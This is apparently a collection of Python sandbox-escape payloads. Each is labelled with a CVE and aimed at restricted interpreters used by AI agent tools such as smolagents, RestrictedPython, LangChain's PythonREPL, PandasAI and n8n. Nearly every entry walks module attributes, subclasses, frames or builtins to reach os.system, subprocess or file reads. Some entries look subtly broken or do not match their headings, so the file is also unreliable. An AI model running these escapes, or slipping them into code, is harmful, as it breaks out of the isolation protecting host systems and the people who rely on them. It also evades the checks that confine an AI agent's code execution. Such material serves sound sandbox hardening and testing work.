# Published ways out of comparable interpreters, written anew: smolagents' LocalPythonExecutor (CVE-2025-5120: modules reached
# through allowed modules; CVE-2025-9959: dunder attributes not checked everywhere; CVE-2026-4963: what the mending of that
# left open in calls, augmented assignments and with statements), RestrictedPython (CVE-2023-37271, CVE-2023-41039,
# CVE-2024-47532, CVE-2025-22153), PandasAI, LangChain's PythonREPL, n8n's Python node.

# == CVE-2025-5120: random to os
import random
random._os.system(COMMAND)

# == CVE-2025-5120: queue to os
import queue
queue.threading._os.system(COMMAND)

# == CVE-2025-5120: queue to sys to os
import queue
queue.threading.sys.modules['os'].system(COMMAND) if hasattr(queue.threading, 'sys') else queue.threading._sys.modules['os'].system(COMMAND)

# == CVE-2025-5120: statistics to sys
import statistics
statistics.sys.modules['os'].system(COMMAND)

# == CVE-2025-5120: collections to sys
import collections
collections._sys.modules['os'].system(COMMAND)

# == CVE-2025-5120: re to enum to sys
import re
re.enum.sys.modules['os'].system(COMMAND)

# == CVE-2025-5120: inspect through doctest
import doctest
doctest.inspect.os.system(COMMAND)

# == CVE-2025-5120: asyncio to subprocess
import asyncio
asyncio.base_events.events.subprocess.run(['sh', '-c', COMMAND])

# == CVE-2025-5120: a module's dictionary
import random
random.__dict__['_os'].system(COMMAND)

# == CVE-2025-5120: datetime to sys
import datetime
datetime.sys.modules['os'].system(COMMAND)

# == CVE-2025-9959: the class by getattr's other names
function_class = (lambda: 0).__getattribute__('__class__')
base = type.__getattribute__(function_class, '__bases__')[0]
[c for c in base.__subclasses__() if 'os._wrap_close' in str(c)][0].__init__.__globals__['system'](COMMAND)

# == CVE-2025-9959: Popen among the subclasses
import subprocess
[c for c in ().__class__.__base__.__subclasses__() if 'Popen' in c.__class__.__repr__(c)][0](['sh', '-c', COMMAND]).wait()

# == CVE-2025-9959: the module of catch_warnings
import warnings
found = [c for c in {}.__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__
found['__import__']('os').system(COMMAND)

# == CVE-2025-9959: a dunder by a format field
import random
class A:
    def __init__(self): self.r = random
'{0.r._os.environ}'.format(A())

# == CVE-2025-9959: a dunder by a mapping of format_map
import random
'{r._os.environ}'.format_map({'r': random})

# == CVE-2025-9959: a returned function's own dunders
def outer():
    def inner(): pass
    return inner
outer().__globals__['__builtins__'] and outer().__builtins__['__import__']('os').system(COMMAND)

# == CVE-2026-4963: a call whose function is computed
import functools
functools.partial(functools.partial, getattr)()(__import__('random'), '_os').system(COMMAND)

# == CVE-2026-4963: a call on a subscript
{'f': [().__class__.__base__.__subclasses__]}['f'][0]()[0] and {'f': __import__('random')._os.system}['f'](COMMAND)

# == CVE-2026-4963: a with statement that binds the builtins
class A:
    def __enter__(self): return (lambda: 0).__builtins__
    def __exit__(self, *args): return True
with A() as found: pass
found['__import__']('os').system(COMMAND)

# == CVE-2026-4963: a with statement whose exit sees the frame
found = []
class A:
    def __enter__(self): pass
    def __exit__(self, kind, error, trace):
        found.append(trace.tb_frame.f_builtins)
        return True
with A(): 1 / 0
found[0]['__import__']('os').system(COMMAND)

# == CVE-2026-4963: an augmented assignment that calls
class A:
    __ior__ = lambda self, name: __import__(name)
a = A()
a |= 'os'
a.system(COMMAND)

# == CVE-2026-4963: an augmented assignment to a dunder
def f(x=()): return x
f.__defaults__ += ((lambda: 0).__builtins__,)
f.__defaults__[-1]['__import__']('os').system(COMMAND)

# == CVE-2023-37271: a generator's frames
def g():
    yield g.frame
gen = g()
g.frame = gen.gi_frame
next(gen).f_builtins['__import__']('os').system(COMMAND)

# == CVE-2023-41039: format on the class of str
import random
str.format('{0._os.environ}', random)

# == CVE-2024-47532: a module behind string
import string
string._re.enum.sys.modules['os'].system(COMMAND) if hasattr(string, '_re') else __import__('re').enum.sys.modules['os'].system(COMMAND)

# == CVE-2025-22153: except star that hides a type
try:
    raise ExceptionGroup('', [ValueError()])
except* ValueError as group:
    frame = group.exceptions[0].__traceback__ or group.__traceback__
(lambda: 0).__builtins__['open'](FILE).read()

# == a sandbox's own guard asked for its globals
__import__.__globals__['__builtins__']['__import__']('os').system(COMMAND) if hasattr(__import__, '__globals__') else __import__('os').system(COMMAND)

# == a refused builtin asked for its closure
open.__globals__['builtins'].open(FILE).read() if hasattr(open, '__globals__') else open(FILE).read()

# == print's own stream
import sys
type(sys.stdout).write.__globals__['sys'].modules['os'].system(COMMAND) if hasattr(type(sys.stdout).write, '__globals__') else sys.modules['os'].system(COMMAND)

# == LangChain: a tree that hides the call in a lambda
(lambda f=(lambda m: m.system): f(__import__('os'))(COMMAND))()

# == PandasAI: the import in a default argument
(lambda m=__import__('os'): m.system(COMMAND))()

# == n8n: the loader of the main module's spec
import json
json.__spec__.loader.load_module.__globals__['sys'].modules['os'].system(COMMAND) if hasattr(json.__spec__.loader.load_module, '__globals__') else json.__spec__.loader.__init__.__globals__['sys'].modules['os'].system(COMMAND)

# == a nonsense code object
f = lambda: 0
f.__code__ = f.__code__.replace(co_code=b'\x64\x63' * 3 + f.__code__.co_code)
open(FILE).read()
